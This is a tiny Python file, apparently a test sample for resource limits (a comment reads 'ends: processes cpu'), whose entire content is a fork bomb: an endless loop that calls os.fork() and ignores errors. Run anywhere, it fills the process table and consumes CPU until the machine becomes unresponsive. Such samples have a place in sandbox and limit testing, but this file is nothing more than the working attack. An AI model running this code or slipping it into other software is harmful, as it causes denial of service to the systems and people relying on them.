# ends: processes cpu
# ruff: noqa
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
